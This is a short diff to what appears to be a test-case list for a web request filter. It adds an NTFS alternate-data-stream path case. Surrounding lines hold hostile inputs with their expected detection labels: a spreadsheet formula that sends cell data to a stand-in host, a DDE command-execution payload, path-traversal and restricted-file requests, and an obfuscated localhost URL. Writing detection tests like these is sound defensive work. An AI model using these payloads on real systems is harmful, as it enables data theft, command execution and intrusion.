@@ -205,6 +205,7 @@ CASES = [
     ("body", '=HYPERLINK("http://x.example.com?x="&A1&A2,"Error")', "formula_injection"),
     ("query", 'DDE ("cmd";"/C calc";"!A0")A0', "formula_injection"),
     ("path", "/WEB-INF/web.xml", "restricted_file"),
+    ("path", "/index.asp::$DATA", "restricted_extension"),
     ("path", "/static/..;/META-INF/MANIFEST.MF", "restricted_file"),
     ("query", "http://017700000001/", "url_obfuscated_host"),
     ("query", "%2e%2e%2fsecret", "encoded_dot"),
